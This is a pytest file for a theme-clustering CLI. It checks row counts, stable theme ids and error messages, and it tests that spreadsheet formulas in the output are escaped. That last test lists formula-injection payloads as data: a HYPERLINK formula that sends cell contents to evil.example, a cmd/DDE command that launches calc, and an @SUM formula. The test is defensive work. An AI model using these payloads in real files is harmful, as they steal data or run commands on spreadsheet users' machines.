"""`koe themes fit` on a small CSV: one output row per input row, stable ids with --model, bad column message."""

from __future__ import annotations

import polars as pl
from planted import planted_documents
from typer.testing import CliRunner

from pipelines.cli.main import app


def _csv(tmp_path):
    docs = planted_documents(per_language=6).select(ticket="document_id", body="text", label="theme")
    path = tmp_path / "in.csv"
    path.write_bytes(docs.write_csv().encode("cp932"))  # Japanese exports are often CP932
    return path, docs


def test_fit_writes_one_row_per_input_and_reuses_ids(tmp_path):
    path, docs = _csv(tmp_path)
    args = ["themes", "fit", "--input", str(path), "--text-column", "body", "--id-column", "ticket"]
    model = tmp_path / "themes.parquet"
    first = CliRunner().invoke(app, [*args, "--out", str(tmp_path / "a.csv"), "--model", str(model)])
    assert first.exit_code == 0, first.output
    out = pl.read_csv(tmp_path / "a.csv")
    assert out.columns == ["ticket", "theme_id", "theme_label", "similarity"]
    assert out["ticket"].to_list() == docs["ticket"].to_list()
    per_label = docs.join(out, on="ticket").group_by("label").agg(pl.col("theme_id").mode().first())
    assert per_label["theme_id"].n_unique() == 5
    second = CliRunner().invoke(app, [*args, "--out", str(tmp_path / "b.csv"), "--model", str(model)])
    assert second.exit_code == 0, second.output
    assert pl.read_csv(tmp_path / "b.csv")["theme_id"].to_list() == out["theme_id"].to_list()


def test_unknown_text_column_is_reported(tmp_path):
    path, _ = _csv(tmp_path)
    result = CliRunner().invoke(app, ["themes", "fit", "--input", str(path), "--text-column", "nope", "--out", str(tmp_path / "o.csv")])
    assert result.exit_code != 0
    assert "no column 'nope'" in result.output


def test_fit_output_escapes_cells_a_spreadsheet_would_run(tmp_path):
    attacks = ['=HYPERLINK("http://evil.example/?"&A1,"click me")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]
    docs = planted_documents(per_language=6).select(ticket="document_id", body="text")
    docs = docs.with_columns(ticket=pl.Series(attacks + docs["ticket"].to_list()[len(attacks):]))
    path = tmp_path / "in.csv"
    docs.write_csv(path)
    result = CliRunner().invoke(app, ["themes", "fit", "--input", str(path), "--text-column", "body", "--id-column", "ticket",
                                      "--out", str(tmp_path / "o.csv")])
    assert result.exit_code == 0, result.output
    out = pl.read_csv(tmp_path / "o.csv", infer_schema=False)
    assert out["ticket"].to_list()[:3] == ["'" + attack for attack in attacks]
    assert not any(v.startswith(("=", "+", "-", "@")) for column in ("ticket", "theme_label") for v in out[column].drop_nulls())
